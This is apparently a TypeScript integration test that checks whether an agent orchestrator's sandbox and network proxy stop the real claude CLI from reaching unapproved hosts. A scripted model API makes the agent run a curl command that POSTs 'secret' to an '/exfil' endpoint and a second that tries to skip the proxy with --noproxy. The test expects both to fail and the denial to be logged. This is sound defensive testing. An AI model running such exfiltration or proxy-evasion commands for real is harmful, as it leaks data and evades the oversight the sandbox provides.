/**
 * The real `claude` CLI under agents.network "allowlist" (the default with bubblewrap): its sandbox has no network
 * of its own, yet it reaches its model API (a scripted Anthropic API on loopback, allowed because it is the
 * agent's ANTHROPIC_BASE_URL) through oxi's proxy; the commands the model makes it run cannot reach another
 * host, through the proxy or around it, and the refusal is in the task's ledger.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runAgent } from '../../../actors/effects/run-agent.js';
import { servedSessions } from '../../../actors/network/registry.js';
import { ensureWorkspace } from '../../../actors/hosts/workspace.js';
import { listEvents } from '../../../src/store/ledger.js';
import { agentFixture, claudeTestEnv, REAL_CLAUDE, seedTask, type AgentFixture } from '../../helpers/agent-deps.js';
import { makeRepo, type TestRepo } from '../../helpers/git-repo.js';
import { startAnthropicApi, type ScriptedModelServer } from '../../helpers/model-api/anthropic.js';

let repo: TestRepo | undefined;
let fx: AgentFixture | undefined;
let api: ScriptedModelServer | undefined;
let internet: Server | undefined;

afterEach(async () => {
  fx?.close();
  await api?.close();
  if (internet) await new Promise((r) => internet!.close(r));
  repo?.cleanup();
  fx = api = internet = repo = undefined;
});

describe('real claude CLI through the network proxy', () => {
  it('talks to its allowed model API through the proxy; its commands cannot reach another host, and the refusal is recorded', async () => {
    repo = makeRepo();
    const cwd = join(repo.scratch, 'wt');
    await ensureWorkspace({ mainClone: repo.dir, path: cwd, branch: 'oxi/t1', taskId: 'T1', baseSha: null, mainBranch: 'main' });
    // "The internet": a server on the host the agent must not reach.
    const hits: string[] = [];
    internet = createServer((req, res) => (hits.push(`${req.method} ${req.url}`), res.end('leaked')));
    await new Promise<void>((r) => internet!.listen(0, '127.0.0.1', r));
    const port = (internet.address() as AddressInfo).port;
    const server = await startAnthropicApi((req) => {
      if (req.toolResults.length === 0) return { tool: { name: 'Bash', input: { command: `curl -sS -m 10 -X POST --data secret http://127.0.0.1:${port}/exfil`, description: 'via proxy' } } };
      if (req.toolResults.length === 1) return { tool: { name: 'Bash', input: { command: `curl -sS -m 10 --noproxy '*' http://127.0.0.1:${port}/direct`, description: 'around the proxy' } } };
      return { text: 'Done trying.' };
    });
    api = server;
    fx = agentFixture(repo.dir, join(repo.scratch, 'state'), {
      agents: {
        worker: { backend: 'claude', model: 'claude-sonnet-4-5' },
        claude: { command: [REAL_CLAUDE], allowedTools: ['Bash(curl *)'] },
        env: { allow: ['PATH', 'LANG'], set: claudeTestEnv(server.url, join(repo.scratch, 'home')) },
        timeouts: { wallMinutes: 2, stallMinutes: 1 },
      },
    });
    seedTask(fx.db, 'T1');
    const input = { taskId: 'T1', attempt: 0, host: 'local', worktree: cwd, branch: 'oxi/t1', plan: { files_touched: [], tests: [], dependencies: [], risk: 'low' }, feedback: null, fix: 0, title: 'Net', description: 'Try the network.' };
    const out = await runAgent(fx.deps, input, new AbortController().signal);
    expect(out, JSON.stringify(out)).toMatchObject({ outcome: 'ok', backend: 'claude' });
    // Three model turns went through the proxy: the sandbox has no other way out (the second command proves it).
    expect(server.requests).toHaveLength(3);
    const [viaProxy, direct] = server.requests[2].toolResults.map((r) => r.content);
    expect(viaProxy).toContain('not in agents.network.allow');
    expect(direct).toMatch(/Failed to connect|Couldn.t connect/);
    expect(hits).toEqual([]);
    const denied = listEvents(fx.db, { task: 'T1', kindPrefix: 'network.denied' }).map((r) => JSON.parse(r.payload));
    expect(denied).toEqual([{ role: 'worker', method: 'POST', host: '127.0.0.1', port, reason: 'not in agents.network.allow' }]);
    // The worker is done: its proxy is gone.
    expect(servedSessions()).toEqual([]);
  });
});
